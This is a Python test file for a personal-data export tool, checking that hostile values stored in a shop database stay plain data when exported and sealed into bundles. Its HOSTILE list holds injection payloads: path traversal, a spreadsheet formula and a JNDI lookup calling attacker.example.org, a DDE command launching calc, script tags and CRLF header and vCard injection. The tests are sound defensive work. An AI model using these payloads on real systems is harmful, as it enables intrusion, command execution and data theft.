"""Stored values that break programs neither break a bundle nor leave its folder."""

import email
import email.policy
import json
import re
from pathlib import Path

import psycopg
import pytest
from psycopg.types.json import Json, Jsonb

from lacuna.bundle import open_sealed, parse_key, seal, write
from lacuna.verify import check_bundle
from tests.bundle import example

HOSTILE = {
    "a path": "../../x",
    "a device": "CON",
    "a device with an ending": "aux.json",
    "marks that turn the text": "Anna \u202egnp.exe\u2066 \u05d0",
    "a formula": '=HYPERLINK("http://attacker.example.org","Anna")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "markup": "</td></table><script>alert(1)</script>&amp;<!--",
    "lines": "Anna\r\nBcc: everybody@example.org\r\n\r\nEND:VCARD\r\nBEGIN:VCARD",
    "cues": "-->\n\n00:00:00.000 --> 99:00:00.000\nx",
    "controls": "\x01\x1b[2J\x7f\u2028\ufeff\ufffe",
    "nothing but spaces": " \t\u00a0",
    "an emoji of many parts": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
    "template markup": "{{7*7}} ${jndi:ldap://attacker.example.org/a} %s {0}",
}


@pytest.fixture
def gathered(template_database, shop_map, media):
    """Collect Anna's bundle after a change of what is stored about her."""
    with template_database.clones() as fresh:
        url = fresh()
        example.fill(url)

        def gather(statement: str, *values: object):
            with psycopg.connect(url.replace("+psycopg", "")) as connection:
                connection.execute(statement, values)
            return example.gather(url, shop_map, media)

        yield gather


def require_sound(folder: Path, content, shop_map) -> Path:
    """Write, check, seal and open it; whatever is in it, everything of it lies where it should."""
    manifest = write(folder, content)
    assert manifest.is_complete
    assert check_bundle(folder, shop_map, example.foreign(), example.COUNTED) == ()
    outside = {path.name for path in folder.parent.iterdir()}
    assert outside == {folder.name}
    for each in manifest.files:
        assert re.fullmatch(r"[A-Za-z0-9._%/-]+", each.path)
        assert all(part.strip(".") and len(part) < 100 for part in each.path.split("/"))
    sealed = seal(folder, folder.parent / "sealed", None)
    key = parse_key(sealed.passphrase.value)
    return open_sealed(sealed.path, key, folder.parent / "opened").folder


def test_hostile_values_in_every_column_stay_values(gathered, folder, shop_map):
    values = list(HOSTILE.values())
    with_lines = HOSTILE["lines"]
    content = gathered(
        "with one as (update shop.customers set name = %s, phone = %s, more_emails = %s, "
        "settings = %s where customer_id = %s), "
        "two as (update shop.comments set note = %s, parties = %s where comment_id = 11) "
        "update shop.comments set body = %s where comment_id = 12",
        *(with_lines, HOSTILE["a formula"], values),
        *(Jsonb({value: [value] for value in values}), example.ANNA),
        *(HOSTILE["markup"], Jsonb({"from": {"name": with_lines, "email": with_lines}})),
        "\n".join(values),
    )
    opened = require_sound(folder, content, shop_map)
    (customer,) = json.loads((opened / "access/json/shop.customers.json").read_bytes())
    assert customer["name"] == with_lines
    assert customer["more_emails"] == values
    assert customer["settings"] == {value: [value] for value in values}
    assert "<script" not in (opened / "README.html").read_text("utf-8")
    (card,) = opened.rglob("*.vcf")
    assert card.read_bytes().split(b"\r\n").count(b"BEGIN:VCARD") == 1
    for path in opened.rglob("*.eml"):
        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        assert message["Bcc"] is None


@pytest.mark.thorough
@pytest.mark.parametrize("megabytes", [2, pytest.param(10, marks=pytest.mark.long)])
def test_a_name_of_megabytes_is_whole_in_the_files_and_short_on_the_page(
    gathered, folder, shop_map, megabytes
):
    name = "Anna " + "x" * (megabytes * 1_000_000)
    content = gathered(
        "update shop.customers set name = %s where customer_id = %s", name, example.ANNA
    )
    opened = require_sound(folder, content, shop_map)
    (customer,) = json.loads((opened / "access/json/shop.customers.json").read_bytes())
    assert customer["name"] == name
    assert (opened / "README.html").stat().st_size < 1_000_000


def test_halves_of_characters_and_nul_in_a_document_are_replaced_and_counted(
    gathered, folder, shop_map
):
    gathered("alter table shop.customers alter column settings type json using settings::json")
    content = gathered(
        "update shop.customers set settings = %s where customer_id = %s",
        Json({"a\ud800": "b\udfff", "nul": "c\x00d"}),
        example.ANNA,
    )
    opened = require_sound(folder, content, shop_map)
    (customer,) = json.loads((opened / "access/json/shop.customers.json").read_bytes())
    assert customer["settings"] == {"a\ufffd": "b\ufffd", "nul": "c\x00d"}
    manifest = json.loads((opened / "manifest.json").read_bytes())
    assert {"article": "15(3)", "count": 2, "source": "shop.customers"}.items() <= next(
        each
        for each in manifest["redactions"]
        if each["reason"].startswith("incomplete characters")
    ).items()


@pytest.mark.parametrize("name", ["CON", "a\u202evaw;b&c", "x" * 200])
def test_the_name_of_a_file_is_never_its_name_in_the_bundle(
    gathered, folder, shop_map, media, name
):
    (media / "recordings" / f"{name}.wav").write_bytes(b"RIFF")
    content = gathered("update shop.recordings set path = %s", f"recordings/{name}.wav")
    opened = require_sound(folder, content, shop_map)
    assert (opened / "portability/media/recording-0001.wav").read_bytes() == b"RIFF"


def test_a_path_that_leaves_the_store_leads_nowhere(gathered, folder, media):
    (media.parent / "evil.wav").write_bytes(b"RIFF")
    content = gathered("update shop.recordings set path = 'recordings/../../evil.wav'")
    assert not write(folder, content).is_complete
    assert not [path for path in folder.rglob("*") if "evil" in path.name]
